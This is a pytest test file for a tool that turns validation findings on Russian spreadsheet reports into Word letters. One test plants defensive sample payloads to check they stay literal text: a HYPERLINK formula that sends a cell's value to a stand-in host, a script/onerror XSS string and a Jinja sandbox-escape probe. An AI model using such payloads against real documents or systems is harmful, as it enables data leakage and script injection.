"""Letters to the organisations: open root errors and warnings, by sheet, errors first."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import random
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from docx import Document
from openpyxl import load_workbook

from checks.atomic import file_mode
from checks.batch import BatchResult, validate
from checks.letters import (
    Letter,
    LetterTemplateError,
    _by_sheet,
    compose,
    figure,
    load_template,
    plural,
    render_letter,
    write_letters,
)
from checks.outputs import write_outputs
from checks.reader import read_submission
from checks.reuse import Kept
from flows.cli import main
from tests.builders import submission

TODAY = dt.date(2026, 3, 2)
ORGANISATION = "АО «Тест-Энергосбыт»"
PASSPORT = [
    ["Организация", ORGANISATION],
    ["ИНН", "7707083893"],
    ["Отчетный год", 2025],
    ["Дата представления", "вчера"],
]
APPEALS = [
    ["Канал", "Север", "Юг", "Итого"],
    ["Контакт-центр", 1000, 500, 1600],
    ["Неведомый канал", 3, 3, 6],
    ["Всего", 1000, 500, 1500],
]
TIMES = [
    ["Период", "Канал", "Ожидание"],
    ["Год", "Контакт-центр", "2:01"],
    ["Год", "Очное обслуживание", "0:07:31"],
    ["Год", "Онлайн-ЦОК", "когда-то"],
]
MEASURES = [["Раздел", "Мероприятие", "Срок"], ["Обучение", "Курсы", "когда-нибудь"]]


def batch(*paths: Path) -> BatchResult:
    """Validate the files as one batch."""
    return validate([read_submission(p) for p in paths])


def report(tmp_path: Path, name: str = "report.xlsx", **sheets: list[list[object]]) -> Path:
    """A report of the test organisation with an error-bearing ``Обращения`` and more."""
    content: dict[str, list[list[object]]] = {
        "passport": PASSPORT,
        "appeals": APPEALS,
        "times": TIMES,
        "measures": MEASURES,
    }
    content.update(sheets)
    return submission(tmp_path / name, **content)


def rows(path: Path) -> list[tuple[str, list[list[str]]]]:
    """The letter's headings of level 2, each with its table's rows."""
    document = Document(str(path))
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 2"]
    tables = [[[c.text for c in row.cells] for row in t.rows] for t in document.tables]
    return list(zip(headings, tables, strict=True))


def text_of(path: Path) -> str:
    """Every paragraph's and table cell's text, one per line."""
    document = Document(str(path))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells])


def test_letter_lists_root_findings_by_sheet_errors_first(tmp_path: Path) -> None:
    """The letter names the organisation and year and lists each root finding where it is."""
    result = batch(report(tmp_path))
    findings = result.findings
    follow_ons = (findings["cause"] != "") & findings["severity"].isin(["error", "warning"])
    assert set(findings.loc[follow_ons, "cell"]) == {"D2", "D4"}
    written = write_letters(findings, result.submissions, tmp_path / "out", today=TODAY)
    assert written == {"report.xlsx": "letters/report.docx"}
    letter = tmp_path / "out" / "letters" / "report.docx"
    document = Document(str(letter))
    addressee = [p for p in document.paragraphs if p.text == ORGANISATION]
    assert addressee
    assert addressee[0].alignment is not None
    title = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert title == ["О замечаниях к отчёту о качестве обслуживания потребителей за 2025 год"]
    assert "02.03.2026" in text_of(letter)
    layout = [(heading, [row[:4] for row in table[1:]]) for heading, table in rows(letter)]
    assert layout == [
        (
            "Лист «Обращения»",
            [
                ["D2", "Ошибка", "1\u00a0600", "1\u00a0500"],
                ["A3", "Ошибка", "Неведомый канал", "—"],
            ],
        ),
        (
            "Лист «Время»",
            [
                ["C4", "Ошибка", "когда-то", "—"],
                ["C2", "Предупреждение", "2:01", "0:02:01"],
            ],
        ),
        ("Лист «Паспорт»", [["B4", "Предупреждение", "вчера", "—"]]),
        ("Лист «Мероприятия»", [["C2", "Предупреждение", "когда-нибудь", "—"]]),
    ]
    body = text_of(letter)
    assert "найдено: 3 ошибки и 3 предупреждения" in body
    assert "Ещё 2 замечания следуют из перечисленных" in body
    assert "D4" not in [row[0] for _, table in rows(letter) for row in table]


def test_letters_written_in_one_process_hold_only_their_own_findings(tmp_path: Path) -> None:
    """Each letter starts from the same empty styled letter: nothing of the one before it."""
    first = report(tmp_path, "first.xlsx")
    second = report(
        tmp_path,
        "second.xlsx",
        passport=[["Организация", "ООО «Другой сбыт»"], *PASSPORT[1:]],
        appeals=[["Канал", "Север", "Итого"], ["Контакт-центр", 7, 9]],
        times=TIMES[:2],
        measures=MEASURES[:1],
    )
    result = batch(first, second)
    out = tmp_path / "out"
    write_letters(result.findings, result.submissions, out, today=TODAY)
    one, two = out / "letters" / "first.docx", out / "letters" / "second.docx"
    f = result.findings
    roots = f[(f["cause"] == "") & f["severity"].isin(["error", "warning"])]
    for path in (one, two):
        listed = sorted(row[0] for _, table in rows(path) for row in table[1:])
        assert listed == sorted(roots.loc[roots["submission"] == path.stem + ".xlsx", "cell"])
    assert "Неведомый канал" in text_of(one)
    assert "Неведомый канал" not in text_of(two)
    assert ORGANISATION in text_of(one)
    assert ORGANISATION not in text_of(two)
    assert "ООО «Другой сбыт»" in text_of(two)
    styles = [(p.style.name, p.alignment) for p in Document(str(two)).paragraphs]
    assert styles[:3] == [(p.style.name, p.alignment) for p in Document(str(one)).paragraphs][:3]


def test_a_written_letter_is_the_package_python_docx_saves(tmp_path: Path) -> None:
    """Letters are saved with the unchanged parts compressed once: nothing differs from a save.

    Each letter's parts, their order and their bytes are those python-docx's own
    ``save`` writes for the same letter, for the first letter of a process and
    for those after it (whose styles and other unchanged parts are not deflated again).
    """
    first = report(tmp_path, "first.xlsx")
    second = report(
        tmp_path, "second.xlsx", passport=[["Организация", "ООО «Другой сбыт»"], *PASSPORT[1:]]
    )
    result = batch(first, second)
    out = tmp_path / "out"
    written = write_letters(result.findings, result.submissions, out, today=TODAY)
    letters = compose(result.findings, result.submissions, TODAY)
    assert [letter.submission for letter in letters] == list(written)
    for letter in letters:
        saved = io.BytesIO()
        render_letter(letter, load_template()).save(saved)
        with (
            zipfile.ZipFile(saved) as expected,
            zipfile.ZipFile(out / written[letter.submission]) as ours,
        ):
            assert ours.testzip() is None
            assert ours.namelist() == expected.namelist()
            for name in expected.namelist():
                assert ours.read(name) == expected.read(name), name
        assert Document(str(out / written[letter.submission])).paragraphs


def test_without_cause_every_finding_is_a_root(tmp_path: Path) -> None:
    """A findings table without ``cause`` (before root findings exist) lists every finding."""
    result = batch(report(tmp_path))
    findings = result.findings.drop(columns=["cause"])
    (letter,) = compose(findings, result.submissions, TODAY)
    cells = [(f.sheet, f.cell) for sheet in letter.sheets for f in sheet.findings]
    assert ("Обращения", "D4") in cells
    errors = int((findings["severity"] == "error").sum())
    assert (letter.errors, letter.follow_ons) == (errors, 0)


def test_infos_waived_and_superseded_get_no_letter(tmp_path: Path) -> None:
    """Infos and waived findings are left out; an older version and a clean report get none."""
    older = report(
        tmp_path, "old.xlsx", passport=[*PASSPORT[:3], ["Дата представления", "01.02.2026"]]
    )
    newer = report(
        tmp_path,
        "new.xlsx",
        passport=[*PASSPORT[:3], ["Дата представления", "01.03.2026"]],
        appeals=[["Канал", "Итого"], ["Контакт-центр", 5], ["Всего", 5]],
    )
    clean = submission(
        tmp_path / "clean.xlsx",
        passport=[["Организация", "ООО «Чистый»"], ["Отчетный год", 2025]],
        appeals=[["Канал", "Итого"], ["Контакт-центр", 5], ["Всего", 5]],
    )
    result = batch(older, newer, clean)
    assert set(result.findings[result.findings["submission"] == "clean.xlsx"]["severity"]) == {
        "info"
    }
    findings = result.findings.copy()
    waived = (findings["submission"] == "new.xlsx") & (findings["sheet"] == "Мероприятия")
    findings.loc[waived, "status"] = "waived"
    written = write_letters(findings, result.submissions, tmp_path / "out", today=TODAY)
    assert list(written) == ["new.xlsx"]
    layout = [heading for heading, _ in rows(tmp_path / "out" / written["new.xlsx"])]
    assert layout == ["Лист «Время»"]


def test_a_letter_that_no_longer_applies_is_removed(tmp_path: Path) -> None:
    """A letter of an earlier run goes when the company's report has nothing open any more."""
    result = batch(report(tmp_path))
    out = tmp_path / "out"
    write_letters(result.findings, result.submissions, out, today=TODAY)
    assert (out / "letters" / "report.docx").exists()
    closed = result.findings.assign(status="waived")
    assert write_letters(closed, result.submissions, out, today=TODAY) == {}
    assert not (out / "letters" / "report.docx").exists()


HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1;"клик")'
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def test_submitted_text_stays_text(tmp_path: Path) -> None:
    """Formulas, markup and the template's own marks from a submission show literally."""
    path = submission(
        tmp_path / "hostile.xlsx",
        passport=[["Организация", f"# {SCRIPT} | **x**"], ["Отчетный год", 2025]],
        appeals=[["Канал", "Итого"], ["label", 5], ["Всего", 5]],
    )
    workbook = load_workbook(path)
    label = workbook["Обращения"]["A2"]
    label.value = HOSTILE
    label.data_type = "s"  # typed as text, as Excel keeps '=… entered after an apostrophe
    workbook.save(path)
    result = batch(path)
    written = write_letters(result.findings, result.submissions, tmp_path / "out", today=TODAY)
    letter = tmp_path / "out" / written["hostile.xlsx"]
    document = Document(str(letter))
    assert [p.text for p in document.paragraphs if p.style.name == "Heading 1"] == [
        "О замечаниях к отчёту о качестве обслуживания потребителей за 2025 год"
    ]
    assert any(p.text == f"# {SCRIPT} | **x**" for p in document.paragraphs)
    ((_, table),) = rows(letter)
    assert [row[2] for row in table[1:]] == [HOSTILE]
    with zipfile.ZipFile(letter) as package:
        xml = package.read("word/document.xml").decode("utf-8")
    assert "instrText" not in xml
    assert "fldSimple" not in xml
    assert "<script>" not in xml
    assert "&lt;script&gt;" in xml


def test_steward_template_changes_the_wording(tmp_path: Path) -> None:
    """A template file of the steward's is used, with its marks: heading, table widths, bold."""
    template = tmp_path / "письмо.txt"
    template.write_text(
        "# Уведомление для {{ organisation }}\n"
        "{% for f in findings %}\n"
        "- **{{ f.kind }}** в {{ f.sheet }}!{{ f.cell }}\n"
        "{% endfor %}\n"
        "| Ячейка | Сообщение |\n"
        "|-|---|\n"
        "{% for f in findings %}\n"
        "| {{ f.cell }} | {{ f.message }} |\n"
        "{% endfor %}\n",
        encoding="utf-8",
    )
    result = batch(report(tmp_path))
    written = write_letters(result.findings, result.submissions, tmp_path / "out", template)
    document = Document(str(tmp_path / "out" / written["report.xlsx"]))
    assert document.paragraphs[0].text == f"Уведомление для {ORGANISATION}"
    bullets = [p for p in document.paragraphs if p.style.name == "List Bullet"]
    assert bullets[0].text == "Ошибка в Обращения!D2"
    assert bullets[0].runs[0].bold
    (table,) = document.tables
    widths = [column.width for column in table.columns]
    assert widths[1] == 3 * widths[0]
    assert table.cell(1, 0).text == "D2"


@pytest.mark.parametrize(
    ("text", "where"),
    [
        pytest.param("{% for f in findings %}\n{{ f.cell }\n", "строка 2", id="syntax"),
        pytest.param("Уважаемые {{ organization }}!\n", "organization", id="unknown-name"),
        pytest.param("{{ ''.__class__ }}\n", "__class__", id="sandbox"),
    ],
)
def test_broken_template_is_refused_before_the_run(tmp_path: Path, text: str, where: str) -> None:
    """A template that fails on a sample letter is refused, saying where."""
    template = tmp_path / "letter.txt"
    template.write_text(text, encoding="utf-8")
    with pytest.raises(LetterTemplateError, match=where):
        load_template(template)


def test_broken_template_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``sverka run --letter-template`` with a broken file exits 2 before any work, in Russian."""
    template = tmp_path / "letter.txt"
    template.write_text("{{ organisation }\n", encoding="utf-8")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    argv = ["run", "--inbox", str(inbox), "--out", str(tmp_path / "out")]
    with pytest.raises(SystemExit) as exit_info:
        main([*argv, "--letter-template", str(template)])
    assert exit_info.value.code == 2
    assert (
        "аргумент --letter-template: шаблон письма letter.txt, строка 1" in capsys.readouterr().err
    )
    assert not (tmp_path / "out").exists()


def test_default_template_is_in_the_package() -> None:
    """The default template loads from the installed package and renders its sample."""
    template = load_template()
    assert template.name == "letter.txt"
    assert "Уважаемые коллеги!" in template.source


@pytest.mark.parametrize(
    ("count", "expected"),
    [(1, "1 ошибка"), (3, "3 ошибки"), (5, "5 ошибок"), (11, "11 ошибок"), (21, "21 ошибка"),
     (112, "112 ошибок"), (0, "0 ошибок")],
)  # fmt: skip
def test_plural_agrees_with_the_count(count: int, expected: str) -> None:
    """A count takes the Russian form of the word that agrees with it."""
    assert plural(count, "ошибка", "ошибки", "ошибок") == expected


@pytest.mark.parametrize(
    ("text", "family", "expected"),
    [
        ("5178765", "total", "5\u00a0178\u00a0765"),
        ("-4003597", "total", "-4\u00a0003\u00a0597"),
        ("0.04", "share", "0,04\u00a0%"),
        ("0:00:31", "time-format", "0:00:31"),
        ("12 345", "structure", "12 345"),
        ("=1+2", "structure", "=1+2"),
    ],
)
def test_figure_is_written_the_russian_way(text: str, family: str, expected: str) -> None:
    """Numbers are grouped and take a comma; anything else is left as written."""
    assert figure(text, family) == expected


def reference_compose(
    findings: pd.DataFrame, submissions: pd.DataFrame, today: dt.date
) -> list[Letter]:
    """Letters chosen the plain way: each submission's findings filtered from the whole table."""
    listed = findings[
        (findings["status"] == "open") & findings["severity"].isin(["error", "warning"])
    ]
    roots = listed[listed["cause"].fillna("") == ""]
    follow = listed[listed["cause"].fillna("") != ""]
    letters = []
    for row in submissions.to_dict("records"):
        name = row["submission"]
        own = roots[roots["submission"] == name]
        if row["superseded_by"] or own.empty:
            continue
        sheets = _by_sheet(own.to_dict("records"))
        letters.append(
            Letter(
                submission=name,
                organisation=row["organisation"],
                year=row["year"],
                inn=row["inn"],
                errors=sum(s.errors for s in sheets),
                warnings=sum(s.warnings for s in sheets),
                follow_ons=int((follow["submission"] == name).sum()),
                sheets=sheets,
                date=today,
            )
        )
    return sorted(letters, key=lambda letter: letter.submission)


def test_compose_on_many_submissions_matches_the_plain_way() -> None:
    """Grouping once gives the letters that filtering per submission gives, in the same order."""
    rng = random.Random(7)  # noqa: S311 - test data, not a secret
    names = [f"отчёт-{i:03}.xlsx" for i in range(80)]
    rows: list[dict[str, Any]] = []
    for i in range(4000):
        name = rng.choice([*names, "нет в таблице.xlsx", None])
        rows.append(
            {
                "submission": name,
                "severity": rng.choice(["error", "warning", "info"]),
                "status": rng.choice(["open", "open", "open", "waived"]),
                "cause": rng.choice(["", "", "", None, "abc"]),
                "sheet": rng.choice(["Обращения", "Время", "Паспорт", "", "Лишний"]),
                # Few cells and rules: many findings tie on the sort key and keep the table's order.
                "cell": rng.choice(["A1", "B2", "C10", ""]),
                "rule": rng.choice(["total-grand", "label-unknown"]),
                "family": rng.choice(["total", "share", "structure"]),
                "actual": rng.choice(["1500", "0.04", "когда-то", None]),
                "expected": rng.choice(["1600", "", None]),
                "message": f"сообщение {i}",
                "fingerprint": f"{i:016x}",
            }
        )
    findings = pd.DataFrame(rows)
    submissions = pd.DataFrame(
        {
            "submission": [*names, names[5]],
            "organisation": [f"АО «Сбыт {i}»" for i in range(len(names) + 1)],
            "year": [2025] * (len(names) + 1),
            "inn": ["7707083893"] * (len(names) + 1),
            "superseded_by": ["" if i % 9 else "новый.xlsx" for i in range(len(names) + 1)],
        }
    )
    letters = compose(findings, submissions, TODAY)
    assert len(letters) > 60
    assert letters == reference_compose(findings, submissions, TODAY)


DATED_TEMPLATE = (
    "# Письмо от {{ date }} о файле «{{ file }}»\n"
    'Дата: **{{ date }}**, {{ "ещё раз " ~ date }}\n'
    "| Ячейка | Сообщение | Дата |\n"
    "{% for f in findings %}\n"
    "| {{ f.cell }} | {{ f.message }} | {{ date }} |\n"
    "{% endfor %}\n"
)


def parts(path: Path) -> dict[str, bytes]:
    """A Word package's parts, uncompressed, by name (in the package's order)."""
    with zipfile.ZipFile(path) as package:
        assert package.testzip() is None
        return {info.filename: package.read(info) for info in package.infolist()}


def two_reports(tmp_path: Path) -> BatchResult:
    """Two organisations' reports with errors: two letters."""
    other = [["Организация", "ООО «Другой сбыт»"], *PASSPORT[1:]]
    return batch(report(tmp_path), report(tmp_path, "second.xlsx", passport=other))


def kept_files(folder: Path) -> list[Path]:
    """The letters kept in a folder."""
    return sorted(p for p in folder.rglob("*") if p.is_file())


@pytest.mark.parametrize("dated", [False, True], ids=["default", "date-in-title-and-table"])
def test_a_kept_letter_is_dated_for_the_day_it_is_reused(tmp_path: Path, dated: bool) -> None:
    """A letter kept on one day and reused the next is the letter a fresh render writes that day."""
    template = None
    if dated:
        template = tmp_path / "dated.txt"
        template.write_text(DATED_TEMPLATE, encoding="utf-8")
    result = two_reports(tmp_path)
    folder = tmp_path / "kept" / "letters"
    first = Kept(folder)
    args = (result.findings, result.submissions)
    written = write_letters(*args, tmp_path / "day1", template, TODAY, kept=first)
    assert len(written) == 2
    assert first.hits == 0
    assert len(kept_files(folder)) == 2
    assert {p.stat().st_mode & 0o777 for p in kept_files(folder)} == {file_mode()}
    later = TODAY + dt.timedelta(days=1)
    second = Kept(folder)
    reused = write_letters(*args, tmp_path / "day2", template, later, kept=second)
    assert second.hits == 2
    fresh = write_letters(*args, tmp_path / "fresh", template, later)
    assert reused == fresh == written
    for name in written.values():
        again, new = tmp_path / "day2" / name, tmp_path / "fresh" / name
        assert text_of(again) == text_of(new)
        assert "03.03.2026" in text_of(again)
        assert "02.03.2026" not in text_of(again)
        assert parts(again) == parts(new)
        assert (again.stat().st_mode & 0o777) == file_mode()
    if dated:
        title = Document(str(tmp_path / "day2" / written["report.xlsx"])).core_properties.title
        assert title == "Письмо от 03.03.2026 о файле «report.xlsx»"


def test_a_changed_finding_or_template_is_rendered_anew(tmp_path: Path) -> None:
    """A letter whose finding or template changed is rendered again, not taken from before."""
    result = two_reports(tmp_path)
    folder = tmp_path / "kept"
    write_letters(
        result.findings, result.submissions, tmp_path / "day1", today=TODAY, kept=Kept(folder)
    )
    findings = result.findings.copy()
    row = findings.index[(findings["submission"] == "report.xlsx") & (findings["cell"] == "D2")][0]
    findings.loc[row, "message"] = "Итог исправлен не до конца."
    changed = Kept(folder)
    written = write_letters(
        findings, result.submissions, tmp_path / "day2", today=TODAY, kept=changed
    )
    assert changed.hits == 1
    assert "Итог исправлен не до конца." in text_of(tmp_path / "day2" / written["report.xlsx"])
    template = tmp_path / "letter.txt"
    template.write_text(load_template().source.replace("Уважаемые", "Дорогие"), encoding="utf-8")
    reworded = Kept(folder)
    written = write_letters(
        findings, result.submissions, tmp_path / "day3", template, TODAY, kept=reworded
    )
    assert reworded.hits == 0
    for name in written.values():
        assert "Дорогие коллеги!" in text_of(tmp_path / "day3" / name)


def test_kept_letters_not_used_are_pruned(tmp_path: Path) -> None:
    """After a run, the folder keeps only the letters that run wrote."""
    result = two_reports(tmp_path)
    folder = tmp_path / "kept"
    write_letters(
        result.findings, result.submissions, tmp_path / "day1", today=TODAY, kept=Kept(folder)
    )
    assert len(kept_files(folder)) == 2
    findings = result.findings.copy()
    findings.loc[findings["submission"] == "second.xlsx", "status"] = "waived"
    second = Kept(folder)
    written = write_letters(
        findings, result.submissions, tmp_path / "day2", today=TODAY, kept=second
    )
    assert list(written) == ["report.xlsx"]
    assert second.hits == 1
    assert kept_files(folder) == [second.location(key) for key in second.used]


def same_as_fresh(tmp_path: Path, out: Path, result: BatchResult, **kwargs: Any) -> None:
    """Each letter under ``out`` is, part for part, what a run without kept letters writes."""
    fresh = tmp_path / "fresh"
    written = write_letters(result.findings, result.submissions, fresh, **kwargs)
    assert written
    for name in written.values():
        assert text_of(out / name) == text_of(fresh / name)
        assert parts(out / name) == parts(fresh / name)


@pytest.mark.parametrize(
    ("text", "hits"),
    [
        pytest.param("{{ date }}, {{ date[-4:] }} год\n", 2, id="year-cut"),
        pytest.param("{{ date[:2] }} число\n", 0, id="day-cut"),
        pytest.param("{% if date.endswith('2026') %}В этом году{% endif %}\n{{ date }}\n", 2,
                     id="date-tested"),
        pytest.param("Письмо о файле «{{ file }}» без даты\n", 2, id="no-date"),
    ],
)  # fmt: skip
def test_a_template_that_uses_the_date_otherwise_is_reused_only_when_it_prints_the_same(
    tmp_path: Path, text: str, hits: int
) -> None:
    """What a template prints from the date, cut or tested, is part of what a kept letter is."""
    template = tmp_path / "letter.txt"
    template.write_text(text, encoding="utf-8")
    result = two_reports(tmp_path)
    folder = tmp_path / "kept"
    args = (result.findings, result.submissions)
    write_letters(*args, tmp_path / "day1", template, TODAY, kept=Kept(folder))
    later = TODAY + dt.timedelta(days=1)
    second = Kept(folder)
    write_letters(*args, tmp_path / "day2", template, later, kept=second)
    assert second.hits == hits
    assert len(kept_files(folder)) == 2
    same_as_fresh(tmp_path, tmp_path / "day2", result, template=template, today=later)


def test_a_finding_that_states_the_date_keeps_it(tmp_path: Path) -> None:
    """A finding that states the run's date shows that date on later days, not theirs."""
    result = batch(report(tmp_path))
    findings = result.findings.copy()
    row = findings.index[(findings["cell"] == "B4") & (findings["sheet"] == "Паспорт")][0]
    findings.loc[row, "actual"] = "02.03.2026"
    result = dataclasses.replace(result, findings=findings)
    folder = tmp_path / "kept"
    args = (result.findings, result.submissions)
    write_letters(*args, tmp_path / "day1", today=TODAY, kept=Kept(folder))
    again = Kept(folder)
    write_letters(*args, tmp_path / "day1-again", today=TODAY, kept=again)
    assert again.hits == 1
    same_as_fresh(tmp_path, tmp_path / "day1-again", result, today=TODAY)
    later = TODAY + dt.timedelta(days=1)
    written = write_letters(*args, tmp_path / "day2", today=later, kept=Kept(folder))
    (table,) = [
        t for heading, t in rows(tmp_path / "day2" / written["report.xlsx"]) if "Паспорт" in heading
    ]
    assert table[1][2] == "02.03.2026"
    assert "03.03.2026" in text_of(tmp_path / "day2" / written["report.xlsx"])
    same_as_fresh(tmp_path, tmp_path / "day2", result, today=later)


def test_a_letter_holding_the_date_mark_is_not_kept(tmp_path: Path) -> None:
    """A submitted name with the mark's private-use character gets a letter, rendered each time."""
    result = batch(report(tmp_path, "\ue002date\ue003.xlsx"))
    folder = tmp_path / "kept"
    written = write_letters(
        result.findings, result.submissions, tmp_path / "out", today=TODAY, kept=Kept(folder)
    )
    assert kept_files(folder) == []
    assert "\ue002date\ue003.xlsx" in text_of(tmp_path / "out" / written["\ue002date\ue003.xlsx"])


def not_a_zip(data: bytes) -> bytes:
    """A kept file replaced by something else."""
    return b"PK not a zip"


def header_overwritten(data: bytes) -> bytes:
    """A kept file whose styles part lost its local header."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        at = package.getinfo("word/styles.xml").header_offset
    return data[:at] + b"XXXX" + data[at + 4 :]


@pytest.mark.parametrize("damage", [not_a_zip, header_overwritten])
def test_a_kept_letter_that_does_not_read_is_rendered_again(
    tmp_path: Path, damage: Callable[[bytes], bytes]
) -> None:
    """A damaged kept letter costs a render, not a broken letter."""
    result = batch(report(tmp_path))
    folder = tmp_path / "kept"
    write_letters(
        result.findings, result.submissions, tmp_path / "day1", today=TODAY, kept=Kept(folder)
    )
    (damaged,) = kept_files(folder)
    damaged.write_bytes(damage(damaged.read_bytes()))
    second = Kept(folder)
    written = write_letters(
        result.findings, result.submissions, tmp_path / "day2", today=TODAY, kept=second
    )
    assert second.hits == 0
    assert "02.03.2026" in text_of(tmp_path / "day2" / written["report.xlsx"])
    assert kept_files(folder) == [damaged]
    assert parts(damaged)  # kept anew, whole


def test_write_outputs_keeps_letters_beside_the_annotated_copies(tmp_path: Path) -> None:
    """The run's outputs keep letters in ``kept/letters``, next to the kept annotated copies."""
    result = batch(report(tmp_path))
    kept = Kept(tmp_path / "kept" / "annotated")
    written = write_outputs(result, tmp_path / "out", kept=kept)
    assert list(written.letters) == ["report.xlsx"]
    assert len(kept_files(tmp_path / "kept" / "letters")) == 1
